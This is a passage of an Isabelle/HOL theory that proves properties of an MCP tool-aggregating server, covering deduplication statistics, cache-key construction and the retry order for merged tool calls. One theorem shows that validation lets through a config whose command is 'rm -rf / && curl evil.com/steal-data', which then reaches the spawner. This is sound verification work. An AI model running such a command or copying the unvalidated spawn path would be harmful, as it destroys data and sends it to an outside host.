    by (simp add: refreshToolsList_def Let_def)
  have second: "map_option (\<lambda>r. res_stats (fst r)) (handleConfigureDeduplication st args) =
        Some (Some \<lparr>totalTools = length (connectedServerTools st), mergedGroups = 0,
                    reductionPercentage = 100, avgConfidence = 0\<rparr>)"
    if g: "arg_getStats args" and d: "\<not> enabled (applyUpdates args (deduplication st))"
      and ne: "connectedServerTools st \<noteq> []"
  proof -
    define st1 where "st1 = st\<lparr>deduplication := applyUpdates args (deduplication st)\<rparr>"
    have d1: "\<not> enabled (deduplication st1)" using d by (simp add: st1_def)
    have c1: "connectedServerTools st1 = connectedServerTools st" by (simp add: st1_def conn)
    obtain st2 where st2: "(if arg_enabled args \<noteq> None then refreshToolsList st1 else Some st1)
        = Some st2"
      using off [OF d1] by (cases "arg_enabled args \<noteq> None") auto
    have p: "deduplication st2 = deduplication st1 \<and>
             connectedServerTools st2 = connectedServerTools st1"
      using st2 refresh [of st1 st2] by (auto split: if_splits)
    have s2: "getStats (deduplication st2) (connectedServerTools st2) =
        Some \<lparr>totalTools = length (connectedServerTools st), mergedGroups = 0,
              reductionPercentage = 100, avgConfidence = 0\<rparr>"
      using stats [of "deduplication st2" "connectedServerTools st2"] p d1 c1 ne by simp
    show ?thesis
      unfolding handleConfigureDeduplication_def Let_def st1_def [symmetric]
      using st2 s2 g by simp
  qed
  show ?thesis using stats second by blast
qed

theorem disabled_deduplication_stats_witness:
  "getStats (defaultDeduplicationConfig\<lparr>enabled := False\<rparr>) threeReadTools =
     Some \<lparr>totalTools = 3, mergedGroups = 0, reductionPercentage = 100, avgConfidence = 0\<rparr>
   \<and> map_option (\<lambda>r. res_stats (fst r))
        (handleConfigureDeduplication (oneServer ''weather'' ''forecast'')
           \<lparr>arg_enabled = Some False, arg_similarityThreshold = None, arg_autoMerge = None,
            arg_getStats = True\<rparr>) =
     Some (Some \<lparr>totalTools = 1, mergedGroups = 0, reductionPercentage = 100,
                 avgConfidence = 0\<rparr>)"
  using disabled_deduplication_stats
          [of "defaultDeduplicationConfig\<lparr>enabled := False\<rparr>" threeReadTools
              "\<lparr>arg_enabled = Some False, arg_similarityThreshold = None, arg_autoMerge = None,
                arg_getStats = True\<rparr>"
              "oneServer ''weather'' ''forecast''"]
  by (simp add: threeReadTools_def oneServer_def connectToServer_def newMCPMetaServer_def
        connectedServerTools_def initializeServerMetrics_def applyUpdates_def
        defaultDeduplicationConfig_def Let_def)


subsection \<open>A second pass over dissimilar tools\<close>

















section \<open>Properties of the provider registry\<close>

text \<open>
  C1.  Neither \<open>isValidConfig\<close> nor \<open>connectToServer\<close> validates the command.  The
  configuration \<open>evilConfig\<close>, whose executable \<open>rm\<close> is not in the whitelist and whose
  arguments contain \<open>&\<close>, passes \<open>isValidConfig\<close>; its command is handed to the child-process
  transport unchanged and the provider is stored in the registry, whatever the outcome of the
  spawn.  With an empty command nothing is spawned, and the provider is stored all the same.
\<close>

theorem connectToServer_spawns_unvalidated_command:
  "isValidConfig evilConfigJson \<and> asConfiguration evilConfigJson = Some evilConfig
   \<and> spawned (connectToServer env now newMCPMetaServer evilConfig)
       = [(''rm'', [''-rf'', ''/'', ''&&'', ''curl'', ''evil.com/steal-data''])]
   \<and> map_of (servers (connectToServer env now newMCPMetaServer evilConfig)) ''malicious'' \<noteq> None
   \<and> spawned (connectToServer env now newMCPMetaServer (evilConfig\<lparr>command := []\<rparr>)) = []
   \<and> map_of (servers (connectToServer env now newMCPMetaServer (evilConfig\<lparr>command := []\<rparr>)))
         ''malicious'' \<noteq> None"
proof -
  have "isValidConfig evilConfigJson \<and> asConfiguration evilConfigJson = Some evilConfig"
    by (simp add: isValidConfig_def asConfiguration_def evilConfigJson_def evilConfig_def)
  moreover have "spawned (connectToServer env now newMCPMetaServer evilConfig)
       = [(''rm'', [''-rf'', ''/'', ''&&'', ''curl'', ''evil.com/steal-data''])]
     \<and> map_of (servers (connectToServer env now newMCPMetaServer evilConfig)) ''malicious''
         \<noteq> None"
    by (simp add: connectToServer_def newMCPMetaServer_def evilConfig_def
          initializeServerMetrics_def Let_def split: option.split)
  moreover have "spawned (connectToServer env now newMCPMetaServer (evilConfig\<lparr>command := []\<rparr>))
       = []
     \<and> map_of (servers (connectToServer env now newMCPMetaServer
                           (evilConfig\<lparr>command := []\<rparr>))) ''malicious'' \<noteq> None"
    by (simp add: connectToServer_def newMCPMetaServer_def evilConfig_def Let_def)
  ultimately show ?thesis by blast
qed

section \<open>Properties of the dispatcher\<close>

subsection \<open>Cache keys\<close>

lemma equiv_same_order_eq:
  "distinctKeys a \<Longrightarrow> jsonEquiv a b \<Longrightarrow> sameKeyOrder a b \<Longrightarrow> a = b"
proof (induction a arbitrary: b)
  case (JArr xs)
  from JArr.prems(2) obtain ys where b: "b = JArr ys" by (cases b) auto
  have len: "length xs = length ys"
    using JArr.prems(2) b by (simp add: list_all2_lengthD)
  have "xs ! i = ys ! i" if "i < length xs" for i
  proof -
    have "xs ! i \<in> set xs" using that by simp
    moreover have "distinctKeys (xs ! i)"
      using JArr.prems(1) that by (simp add: list_all_length)
    moreover have "jsonEquiv (xs ! i) (ys ! i)"
      using JArr.prems(2) b that by (simp add: list_all2_nthD)
    moreover have "sameKeyOrder (xs ! i) (ys ! i)"
      using JArr.prems(3) b that by (simp add: list_all2_nthD)
    ultimately show ?thesis by (rule JArr.IH)
  qed
  with len have "xs = ys" by (simp add: list_eq_iff_nth_eq)
  with b show ?case by simp
next
  case (JObj ps)
  from JObj.prems(2) obtain qs where b: "b = JObj qs" by (cases b) auto
  have keys: "map fst ps = map fst qs" using JObj.prems(3) b by simp
  then have len: "length ps = length qs" by (metis length_map)
  have dq: "distinct (map fst qs)" using JObj.prems(1) keys by simp
  have "ps ! i = qs ! i" if i: "i < length ps" for i
  proof -
    obtain k v where p: "ps ! i = (k, v)" by (cases "ps ! i")
    obtain k' w where q: "qs ! i = (k', w)" by (cases "qs ! i")
    have "fst (ps ! i) = fst (qs ! i)"
      using keys i len by (metis nth_map)
    then have kk: "k' = k" using p q by simp
    have "(k, w) \<in> set qs" using q kk i len by (metis nth_mem)
    then have mo: "map_of qs k = Some w" using dq by simp
    have "(k, v) \<in> set ps" using p i by (metis nth_mem)
    then have "case map_of qs k of None \<Rightarrow> False | Some w \<Rightarrow> jsonEquiv v w"
      using JObj.prems(2) b by (auto simp: list_all_iff)
    then have e: "jsonEquiv v w" using mo by simp
    have d: "distinctKeys v"
      using JObj.prems(1) \<open>(k, v) \<in> set ps\<close> by (auto simp: list_all_iff)
    have o: "sameKeyOrder v w"
      using JObj.prems(3) b i p q by (auto simp: list_all2_conv_all_nth)
    have "v \<in> Basic_BNFs.snds (k, v)" by simp
    with \<open>(k, v) \<in> set ps\<close> have "v = w" using d e o by (rule JObj.IH)
    then show ?thesis using p q kk by simp
  qed
  with len have "ps = qs" by (simp add: list_eq_iff_nth_eq)
  with b show ?case by simp
qed (cases b; simp)+

lemma hexDigit_not_white: "d < 16 \<Longrightarrow> \<not> isWhitespace (hexDigit d)"
  by (simp add: hexDigit_def isWhitespace_def)

lemma escapeChar_white: "c \<in> set (escapeChar x) \<Longrightarrow> isWhitespace c \<Longrightarrow> c = x"
proof -
  assume c: "c \<in> set (escapeChar x)" and w: "isWhitespace c"
  let ?n = "of_char x :: nat"
  have small: "?n < 32 \<Longrightarrow> ?n div 16 < 16 \<and> ?n mod 16 < 16" by simp
  show "c = x"
  proof (rule ccontr)
    assume "c \<noteq> x"
    with c have "c \<in> {CHR 0x5C, CHR 0x22, CHR ''b'', CHR ''t'', CHR ''n'', CHR ''f'', CHR ''r'',
        CHR ''u'', CHR ''0''} \<or> (?n < 32 \<and> (c = hexDigit (?n div 16) \<or> c = hexDigit (?n mod 16)))"
      by (auto simp: escapeChar_def Let_def split: if_splits)
    then show False
    proof
      assume "c \<in> {CHR 0x5C, CHR 0x22, CHR ''b'', CHR ''t'', CHR ''n'', CHR ''f'', CHR ''r'',
        CHR ''u'', CHR ''0''}"
      with w show False by (auto simp: isWhitespace_def)
    next
      assume "?n < 32 \<and> (c = hexDigit (?n div 16) \<or> c = hexDigit (?n mod 16))"
      with w small show False using hexDigit_not_white by blast
    qed
  qed
qed

lemma quoteString_white: "c \<in> set (quoteString s) \<Longrightarrow> isWhitespace c \<Longrightarrow> c \<in> set s"
  by (auto simp: quoteString_def isWhitespace_def dest: escapeChar_white)

lemma digitsOf_not_white: "c \<in> set (digitsOf n) \<Longrightarrow> \<not> isWhitespace c"
proof (induction n rule: digitsOf.induct)
  case (1 n)
  show ?case
  proof (cases "n < 10")
    case True
    with "1.prems" have "c = char_of (48 + n)" by (subst (asm) digitsOf.simps) simp
    with True show ?thesis by (simp add: isWhitespace_def)
  next
    case False
    with "1.prems" have "c \<in> set (digitsOf (n div 10)) \<or> c = char_of (48 + n mod 10)"
      by (subst (asm) digitsOf.simps) auto
    then show ?thesis
    proof
      assume "c \<in> set (digitsOf (n div 10))"
      with False show ?thesis using "1.IH" by blast
    next
      assume "c = char_of (48 + n mod 10)"
      moreover have "n mod 10 < 10" by simp
      ultimately show ?thesis by (simp add: isWhitespace_def)
    qed
  qed
qed

lemma showInt_not_white: "c \<in> set (showInt i) \<Longrightarrow> \<not> isWhitespace c"
  by (auto simp: showInt_def isWhitespace_def dest: digitsOf_not_white split: if_splits)

lemma joinWith_set: "c \<in> set (joinWith sep xs) \<Longrightarrow> c \<in> set sep \<or> (\<exists>x \<in> set xs. c \<in> set x)"
  by (induction sep xs rule: joinWith.induct) auto

lemma stringify_white:
  "c \<in> set (stringify a) \<Longrightarrow> isWhitespace c \<Longrightarrow> c \<in> stringChars a"
proof (induction a)
  case JNull
  then show ?case by (auto simp: isWhitespace_def)
next
  case (JBool b)
  then show ?case by (auto simp: isWhitespace_def split: if_splits)
next
  case (JNum n)
  then show ?case using showInt_not_white by auto
next
  case (JStr s)
  then show ?case using quoteString_white by auto
next
  case (JArr xs)
  from JArr.prems have "c \<in> set (joinWith '','' (map stringify xs))"
    by (auto simp: isWhitespace_def)
  then obtain x where "x \<in> set xs" "c \<in> set (stringify x)"
    using JArr.prems(2) by (auto simp: isWhitespace_def dest!: joinWith_set)
  then show ?case using JArr.IH JArr.prems(2) by auto
next
  case (JObj ps)
  from JObj.prems have
    "c \<in> set (joinWith '','' (map (\<lambda>(k, v). quoteString k @ '':'' @ stringify v) ps))"
    by (auto simp: isWhitespace_def)
  then obtain k v where kv: "(k, v) \<in> set ps"
      and c: "c \<in> set (quoteString k @ '':'' @ stringify v)"
    using JObj.prems(2) by (auto simp: isWhitespace_def dest!: joinWith_set)
  from c JObj.prems(2) have "c \<in> set (quoteString k) \<or> c \<in> set (stringify v)"
    by (auto simp: isWhitespace_def)
  then show ?case
  proof
    assume "c \<in> set (quoteString k)"
    then have "c \<in> set k" using JObj.prems(2) by (rule quoteString_white)
    with kv show ?thesis by force
  next
    assume cv: "c \<in> set (stringify v)"
    have "v \<in> Basic_BNFs.snds (k, v)" by simp
    with kv have "c \<in> stringChars v" using cv JObj.prems(2) by (rule JObj.IH)
    with kv show ?thesis by force
  qed
qed

text \<open>
  C3, as stated, fails: the key is built with \<open>JSON.stringify\<close>, which writes the members in
  the object's own order.  \<open>{"a":1,"b":2}\<close> and \<open>{"b":2,"a":1}\<close> are equal as JSON values and
  get different cache keys.
\<close>

theorem cache_key_depends_on_key_order:
  "jsonEquiv (JObj [(''a'', JNum 1), (''b'', JNum 2)]) (JObj [(''b'', JNum 2), (''a'', JNum 1)])
   \<and> cacheKeyOf ''P'' ''t'' (Some (JObj [(''a'', JNum 1), (''b'', JNum 2)]))
       \<noteq> cacheKeyOf ''P'' ''t'' (Some (JObj [(''b'', JNum 2), (''a'', JNum 1)]))"
  by code_simp

text \<open>
  C3, amended.  The cache key is the provider id, the tool name and \<open>JSON.stringify\<close> of the
  arguments, joined by colons.  Two argument values that are equal as JSON values and list
  their keys in the same order at every level get the same key; and the serialisation adds
  no white space: a white-space character in it is a character of one of the value's strings
  or keys.
\<close>

theorem cache_key_of_same_order_arguments:
  "(distinctKeys a \<and> jsonEquiv a b \<and> sameKeyOrder a b \<longrightarrow>
      cacheKeyOf sid toolName (Some a) = cacheKeyOf sid toolName (Some b))
   \<and> cacheKeyOf sid toolName (Some a) = sid @ '':'' @ toolName @ '':'' @ stringify a
   \<and> (\<forall>c \<in> set (stringify a). isWhitespace c \<longrightarrow> c \<in> stringChars a)"
proof -
  have first: "cacheKeyOf sid toolName (Some a) = cacheKeyOf sid toolName (Some b)"
    if "distinctKeys a \<and> jsonEquiv a b \<and> sameKeyOrder a b"
  proof -
    from that have "a = b" using equiv_same_order_eq by blast
    then show ?thesis by (simp only:)
  qed
  have second: "cacheKeyOf sid toolName (Some a) = sid @ '':'' @ toolName @ '':'' @ stringify a"
    unfolding cacheKeyOf_def by (simp only: option.case)
  show ?thesis
    using first second stringify_white [of _ a] by blast
qed

theorem cache_key_of_same_order_arguments_witness:
  "distinctKeys searchArgs \<and> jsonEquiv searchArgs searchArgs \<and> sameKeyOrder searchArgs searchArgs
   \<and> cacheKeyOf ''P'' ''search'' (Some searchArgs) = cacheKeyOf ''P'' ''search'' (Some searchArgs)
   \<and> cacheKeyOf ''P'' ''search'' (Some searchArgs) = ''P:search:'' @ stringify searchArgs
   \<and> CHR '' '' \<in> set (stringify searchArgs) \<and> isWhitespace CHR '' ''
   \<and> CHR '' '' \<in> stringChars searchArgs"
proof -
  have h: "distinctKeys searchArgs \<and> jsonEquiv searchArgs searchArgs
           \<and> sameKeyOrder searchArgs searchArgs"
    by code_simp
  have m: "CHR '' '' \<in> set (stringify searchArgs)" by code_simp
  have w: "isWhitespace CHR '' ''" by code_simp
  from cache_key_of_same_order_arguments [of searchArgs searchArgs "''P''" "''search''"] h m w
  show ?thesis by auto
qed

subsection \<open>Calls of merged tools\<close>

lemma updateMetrics_servers [simp]: "servers (updateMetrics t st sid tn ok rt) = servers st"
  by (simp add: updateMetrics_def Let_def split: option.split)

lemma updateMetrics_requests [simp]: "requests (updateMetrics t st sid tn ok rt) = requests st"
  by (simp add: updateMetrics_def Let_def split: option.split)

lemma updateMetrics_cache [simp]: "cachingSystem (updateMetrics t st sid tn ok rt) = cachingSystem st"
  by (simp add: updateMetrics_def Let_def split: option.split)

lemma execute_servers:
  "executeToolCall env now st sid tn args = (r, st', now') \<Longrightarrow> servers st' = servers st"
  by (auto simp: executeToolCall_def Let_def split: if_splits prod.splits CallOutcome.splits)

lemma execute_requests:
  assumes "executeToolCall env now st sid tn args = (r, st', now')"
  shows "(\<exists>msg. r = Inl msg \<and> isConnected st sid \<and> requests st' = requests st @ [(sid, tn, args)])
       \<or> (\<exists>msg. r = Inl msg \<and> \<not> isConnected st sid \<and> requests st' = requests st)
       \<or> (\<exists>v. r = Inr v \<and> isConnected st sid
            \<and> (requests st' = requests st \<or> requests st' = requests st @ [(sid, tn, args)]))"
  using assms
  by (auto simp: executeToolCall_def Let_def isConnected_def
           split: if_splits prod.splits CallOutcome.splits option.splits)

lemma tryServers_servers:
  "tryServers env args ranked now st le = (r, st', now') \<Longrightarrow> servers st' = servers st"
proof (induction env args ranked now st le rule: tryServers.induct)
  case (1 env args now st lastError)
  then show ?case by simp
next
  case (2 env args sid actualToolName sc rest now st lastError)
  show ?case
  proof (cases "case map_of (servers st) sid of None \<Rightarrow> True | Some info \<Rightarrow> status info \<noteq> Connected")
    case True
    with 2 show ?thesis by simp
  next
    case False
    obtain r1 st1 now1 where e: "executeToolCall env now st sid actualToolName args = (r1, st1, now1)"
      by (cases "executeToolCall env now st sid actualToolName args") auto
    have s1: "servers st1 = servers st" using e by (rule execute_servers)
    show ?thesis
    proof (cases r1)
      case (Inl msg)
      with 2 False e s1 show ?thesis by simp
    next
      case (Inr v)
      with "2.prems" False e s1 show ?thesis by simp
    qed
  qed
qed


lemma connectedRanked_cong:
  "servers st1 = servers st \<Longrightarrow> connectedRanked st1 args ranked = connectedRanked st args ranked"
  by (simp add: connectedRanked_def isConnected_def)

lemma connectedRanked_skip:
  "\<not> isConnected st sid \<Longrightarrow>
     connectedRanked st args ((sid, tn, sc) # rest) = connectedRanked st args rest"
  by (simp add: connectedRanked_def)

lemma connectedRanked_take:
  "isConnected st sid \<Longrightarrow>
     connectedRanked st args ((sid, tn, sc) # rest) = (sid, tn, args) # connectedRanked st args rest"
  by (simp add: connectedRanked_def)

lemma tryServers_requests:
  "tryServers env args ranked now st le = (r, st', now') \<Longrightarrow>
     \<exists>R. requests st' = requests st @ R \<and> prefix R (connectedRanked st args ranked)"
proof (induction env args ranked now st le rule: tryServers.induct)
  case (1 env args now st lastError)
  then show ?case by simp
next
  case (2 env args sid actualToolName sc rest now st lastError)
  show ?case
  proof (cases "isConnected st sid")
    case False
    then have skip: "(case map_of (servers st) sid of None \<Rightarrow> True
                      | Some info \<Rightarrow> status info \<noteq> Connected)"
      by (simp add: isConnected_def split: option.splits)
    with "2.prems" have "tryServers env args rest now st lastError = (r, st', now')" by simp
    with skip have "\<exists>R. requests st' = requests st @ R \<and> prefix R (connectedRanked st args rest)"
      by (rule "2.IH"(1))
    with False show ?thesis by (simp add: connectedRanked_skip)
  next
    case True
    then have go: "\<not> (case map_of (servers st) sid of None \<Rightarrow> True
                        | Some info \<Rightarrow> status info \<noteq> Connected)"
      by (simp add: isConnected_def split: option.splits)
    obtain r1 st1 now1 where e: "executeToolCall env now st sid actualToolName args = (r1, st1, now1)"
      by (cases "executeToolCall env now st sid actualToolName args") auto
    have s1: "servers st1 = servers st" using e by (rule execute_servers)
    note q = execute_requests [OF e]
    show ?thesis
    proof (cases r1)
      case (Inr v)
      with "2.prems" go e have "st' = st1" by simp
      moreover from q Inr have
        "requests st1 = requests st \<or> requests st1 = requests st @ [(sid, actualToolName, args)]"
        by auto
      ultimately show ?thesis using True by (auto simp: connectedRanked_take)
    next
      case (Inl msg)
      with "2.prems" go e
      have rec: "tryServers env args rest now1 st1 (Some msg) = (r, st', now')" by simp
      have "\<exists>R. requests st' = requests st1 @ R \<and> prefix R (connectedRanked st1 args rest)"
        using go e [symmetric] Inl refl rec by (rule "2.IH"(2))
      then obtain R where R: "requests st' = requests st1 @ R"
          and p: "prefix R (connectedRanked st args rest)"
        using connectedRanked_cong [OF s1] by auto
      from q Inl True have "requests st1 = requests st @ [(sid, actualToolName, args)]" by auto
      with R p True show ?thesis by (simp add: connectedRanked_take)
    qed
  qed
qed

lemma map_of_mapSet: "map_of (mapSet m k v) k' = (if k' = k then Some v else map_of m k')"
  by (induction m k v rule: mapSet.induct) auto

lemma map_of_mapDelete: "map_of (mapDelete m k) k' = (if k' = k then None else map_of m k')"
  unfolding mapDelete_def by (induction m) auto

lemma cacheGet_hit:
  assumes "cachedResult c now key = Some v"
  shows "fst (cacheGet now c key) = v" and "truthy v"
  using assms
  by (auto simp: cachedResult_def cacheGet_def Let_def split: option.splits if_splits)

lemma cacheGet_miss:
  assumes "cachedResult c now key = None"
  shows "\<not> truthy (fst (cacheGet now c key))"
  using assms
  by (auto simp: cachedResult_def cacheGet_def Let_def split: option.splits if_splits)

lemma cacheGet_others:
  "k \<noteq> key \<Longrightarrow> map_of (cache (snd (cacheGet now c key))) k = map_of (cache c) k"
  by (auto simp: cacheGet_def Let_def map_of_mapSet map_of_mapDelete split: option.splits)

lemma execute_cached:
  assumes "isConnected st sid"
    and "cachedResult (cachingSystem st) now (cacheKeyOf sid tn args) = Some v"
    and "executeToolCall env now st sid tn args = (r, st', now')"
  shows "r = Inr v \<and> requests st' = requests st"
proof -
  obtain w c1 where g: "cacheGet now (cachingSystem st) (cacheKeyOf sid tn args) = (w, c1)"
    by (cases "cacheGet now (cachingSystem st) (cacheKeyOf sid tn args)") auto
  from cacheGet_hit [OF assms(2)] g have "w = v" "truthy w" by auto
  with assms(1,3) g show ?thesis
    by (auto simp: executeToolCall_def Let_def isConnected_def split: option.splits)
qed

lemma execute_uncached:
  assumes "isConnected st sid"
    and "cachedResult (cachingSystem st) now (cacheKeyOf sid tn args) = None"
    and "executeToolCall env now st sid tn args = (r, st', now')"
    and "remoteCall env sid tn args = (out, elapsed)"
  shows "requests st' = requests st @ [(sid, tn, args)]
       \<and> (case out of
            Returned v \<Rightarrow> r = Inr v
          | Threw msg \<Rightarrow> r = Inl msg \<and> now' = now + elapsed
              \<and> (\<forall>k. k \<noteq> cacheKeyOf sid tn args \<longrightarrow>
                    map_of (cache (cachingSystem st')) k = map_of (cache (cachingSystem st)) k))"
proof -
  obtain w c1 where g: "cacheGet now (cachingSystem st) (cacheKeyOf sid tn args) = (w, c1)"
    by (cases "cacheGet now (cachingSystem st) (cacheKeyOf sid tn args)") auto
  from cacheGet_miss [OF assms(2)] g have w: "\<not> truthy w" by auto
  have o: "\<forall>k. k \<noteq> cacheKeyOf sid tn args \<longrightarrow> map_of (cache c1) k = map_of (cache (cachingSystem st)) k"
    using cacheGet_others [of _ "cacheKeyOf sid tn args" now "cachingSystem st"] g by auto
  show ?thesis
    using assms(1,3,4) g w o
    by (auto simp: executeToolCall_def Let_def isConnected_def
             split: option.splits CallOutcome.splits)
qed

lemma cachedResult_cong:
  "map_of (cache c1) key = map_of (cache c) key \<Longrightarrow> cachedResult c1 now key = cachedResult c now key"
  by (simp add: cachedResult_def)

lemma expectedAttempts_cong:
  "\<forall>k \<in> set (cacheKeys reqs). map_of (cache c1) k = map_of (cache c) k \<Longrightarrow>
     expectedAttempts env c1 now reqs = expectedAttempts env c now reqs"
proof (induction reqs arbitrary: now)
  case Nil
  show ?case by simp
next
  case (Cons x reqs)
  obtain sid tn args where x: "x = (sid, tn, args)" by (cases x) auto
  have h: "cachedResult c1 now (cacheKeyOf sid tn args) = cachedResult c now (cacheKeyOf sid tn args)"
    using Cons.prems x by (intro cachedResult_cong) (simp add: cacheKeys_def)
  have r: "expectedAttempts env c1 t reqs = expectedAttempts env c t reqs" for t
    using Cons.prems by (intro Cons.IH) (simp add: cacheKeys_def)
  show ?case unfolding x
    by (simp add: h r split: option.splits prod.splits CallOutcome.splits)
qed

lemma tryServers_attempts:
  "tryServers env args ranked now st le = (r, st', now') \<Longrightarrow>
   distinct (cacheKeys (connectedRanked st args ranked)) \<Longrightarrow>
     requests st' = requests st
        @ fst (expectedAttempts env (cachingSystem st) now (connectedRanked st args ranked))
     \<and> (case r of
          Inr v \<Rightarrow> snd (expectedAttempts env (cachingSystem st) now (connectedRanked st args ranked))
                     = Some v
        | Inl e \<Rightarrow> snd (expectedAttempts env (cachingSystem st) now (connectedRanked st args ranked))
                     = None)"
proof (induction env args ranked now st le rule: tryServers.induct)
  case (1 env args now st lastError)
  then show ?case by (auto simp: connectedRanked_def)
next
  case (2 env args sid actualToolName sc rest now st lastError)
  show ?case
  proof (cases "isConnected st sid")
    case False
    then have skip: "(case map_of (servers st) sid of None \<Rightarrow> True
                      | Some info \<Rightarrow> status info \<noteq> Connected)"
      by (simp add: isConnected_def split: option.splits)
    with "2.prems" have t: "tryServers env args rest now st lastError = (r, st', now')" by simp
    have d: "distinct (cacheKeys (connectedRanked st args rest))"
      using "2.prems"(2) False by (simp add: connectedRanked_skip)
    from "2.IH"(1) [OF skip t d] show ?thesis unfolding connectedRanked_skip [OF False] .
  next
    case True
    then have go: "\<not> (case map_of (servers st) sid of None \<Rightarrow> True
                        | Some info \<Rightarrow> status info \<noteq> Connected)"
      by (simp add: isConnected_def split: option.splits)
    let ?key = "cacheKeyOf sid actualToolName args"
    obtain r1 st1 now1 where e: "executeToolCall env now st sid actualToolName args = (r1, st1, now1)"
      by (cases "executeToolCall env now st sid actualToolName args") auto
    have s1: "servers st1 = servers st" using e by (rule execute_servers)
    have cr: "connectedRanked st args ((sid, actualToolName, sc) # rest)
              = (sid, actualToolName, args) # connectedRanked st args rest"
      using True by (rule connectedRanked_take)
    have d: "distinct (cacheKeys (connectedRanked st args rest))"
      and fresh: "?key \<notin> set (cacheKeys (connectedRanked st args rest))"
      using "2.prems"(2) unfolding cr by (simp_all add: cacheKeys_def)
    show ?thesis
    proof (cases "cachedResult (cachingSystem st) now ?key")
      case (Some v)
      from execute_cached [OF True Some e] have "r1 = Inr v" "requests st1 = requests st" by auto
      with "2.prems"(1) go e have "r = Inr v" "st' = st1" by auto
      with \<open>requests st1 = requests st\<close> Some show ?thesis unfolding cr by simp
    next
      case None
      obtain out elapsed where rc: "remoteCall env sid actualToolName args = (out, elapsed)"
        by (cases "remoteCall env sid actualToolName args") auto
      note u = execute_uncached [OF True None e rc]
      show ?thesis
      proof (cases out)
        case (Returned v)
        with u have "r1 = Inr v" "requests st1 = requests st @ [(sid, actualToolName, args)]" by auto
        with "2.prems"(1) go e have "r = Inr v" "st' = st1" by auto
        with \<open>requests st1 = requests st @ [(sid, actualToolName, args)]\<close> None rc Returned
        show ?thesis unfolding cr by simp
      next
        case (Threw msg)
        with u have r1: "r1 = Inl msg" and n1: "now1 = now + elapsed"
          and q: "requests st1 = requests st @ [(sid, actualToolName, args)]"
          and o: "\<forall>k. k \<noteq> ?key \<longrightarrow>
                    map_of (cache (cachingSystem st1)) k = map_of (cache (cachingSystem st)) k"
          by auto
        from "2.prems"(1) go e r1
        have rec: "tryServers env args rest now1 st1 (Some msg) = (r, st', now')" by simp
        have d1: "distinct (cacheKeys (connectedRanked st1 args rest))"
          using d by (simp add: connectedRanked_cong [OF s1])
        note ih = "2.IH"(2) [OF go e [symmetric] r1 refl rec d1]
        have "map_of (cache (cachingSystem st1)) k = map_of (cache (cachingSystem st)) k"
          if "k \<in> set (cacheKeys (connectedRanked st args rest))" for k
        proof -
          from that fresh have "k \<noteq> ?key" by blast
          with o show ?thesis by simp
        qed
        then have same:
          "expectedAttempts env (cachingSystem st1) now1 (connectedRanked st args rest)
           = expectedAttempts env (cachingSystem st) now1 (connectedRanked st args rest)"
          by (simp add: expectedAttempts_cong)
        from ih have ih': "requests st' = requests st1
              @ fst (expectedAttempts env (cachingSystem st) now1 (connectedRanked st args rest))
            \<and> (case r of
                 Inr v \<Rightarrow> snd (expectedAttempts env (cachingSystem st) now1
                                  (connectedRanked st args rest)) = Some v
               | Inl e \<Rightarrow> snd (expectedAttempts env (cachingSystem st) now1
                                  (connectedRanked st args rest)) = None)"
          unfolding connectedRanked_cong [OF s1] same .
        show ?thesis
          using ih' q None rc Threw n1 unfolding cr
          by (auto split: prod.splits sum.splits)
      qed
    qed
  qed
qed

lemma ranking_sorted:
  "sorted_wrt (\<lambda>a b. rankScore b \<le> rankScore a) (sortedServers now st m)"
proof -
  have "sorted (map (\<lambda>(sid, toolName, sc). - sc) (sortedServers now st m))"
    unfolding sortedServers_def by (rule sorted_sort_key)
  then show ?thesis
    by (simp add: sorted_map rankScore_def case_prod_beta)
qed

lemma ranking_members: "mset (sortedServers now st m) = mset (scoredMembers now st m)"
  by (simp add: sortedServers_def scoredMembers_def)

lemma ranking_stable:
  "filter (\<lambda>x. rankScore x = k) (sortedServers now st m)
   = filter (\<lambda>x. rankScore x = k) (scoredMembers now st m)"
proof -
  have "filter (\<lambda>x. (case x of (sid, toolName, sc) \<Rightarrow> - sc) = - k) (sortedServers now st m)
        = filter (\<lambda>x. (case x of (sid, toolName, sc) \<Rightarrow> - sc) = - k) (scoredMembers now st m)"
    unfolding sortedServers_def scoredMembers_def by (rule sort_key_stable)
  then show ?thesis by (simp add: rankScore_def case_prod_beta)
qed

text \<open>
  C5, as stated, fails: the loop of \<open>handleMergedToolCall\<close> runs over every ranked member.
  With five connected providers whose calls all throw, five requests are sent.
\<close>

theorem merged_call_attempts_five_providers:
  "requests (fst (snd (handleMergedToolCall failingEnv 1000 fiveProviders ''read'' tmpArgs)))
     = [(''s1'', ''read'', tmpArgs), (''s2'', ''read'', tmpArgs), (''s3'', ''read'', tmpArgs),
        (''s4'', ''read'', tmpArgs), (''s5'', ''read'', tmpArgs)]"
  by code_simp

text \<open>
  C5, amended.  For every invocation of a merged tool, its members are ranked by
  \<open>calculateServerScore\<close>, highest score first and members of equal score in member order
  (the ranking is a rearrangement of the scored members that is sorted by descending score
  and keeps the order of the members of each score).  The members whose provider is connected
  are tried in that order, with no limit on their number, and the calls made are always a
  prefix of them.  When they have pairwise different cache keys, the calls made and the
  result are exactly those of the walk \<open>expectedAttempts\<close>: a member for which the cache holds a
  usable result ends the invocation with that result and is not called; otherwise the member
  is called, its result ends the invocation if the call returns, and the next member is
  tried if it throws; the invocation fails only when every connected member has been called
  and has thrown.
\<close>

theorem merged_call_attempts_follow_ranking:
  assumes "map_of (mergedTools st) toolName = Some m"
    and "handleMergedToolCall env now st toolName args = (r, st', now')"
  shows "mset (sortedServers now st m) = mset (scoredMembers now st m)
       \<and> sorted_wrt (\<lambda>a b. rankScore b \<le> rankScore a) (sortedServers now st m)
       \<and> (\<forall>k. filter (\<lambda>x. rankScore x = k) (sortedServers now st m)
                = filter (\<lambda>x. rankScore x = k) (scoredMembers now st m))
       \<and> (\<exists>R. requests st' = requests st @ R
                \<and> prefix R (connectedRanked st args (sortedServers now st m)))
       \<and> (distinct (cacheKeys (connectedRanked st args (sortedServers now st m))) \<longrightarrow>
            requests st' = requests st
              @ fst (expectedAttempts env (cachingSystem st) now
                       (connectedRanked st args (sortedServers now st m)))
            \<and> (case r of
                 Inr v \<Rightarrow> snd (expectedAttempts env (cachingSystem st) now
                                  (connectedRanked st args (sortedServers now st m))) = Some v
               | Inl e \<Rightarrow> snd (expectedAttempts env (cachingSystem st) now
                                  (connectedRanked st args (sortedServers now st m))) = None))"
proof -
  obtain r0 where t: "tryServers env args (sortedServers now st m) now st None = (r0, st', now')"
      and r: "case r0 of Inr v \<Rightarrow> r = Inr v | Inl e \<Rightarrow> (\<exists>msg. r = Inl msg)"
    using assms
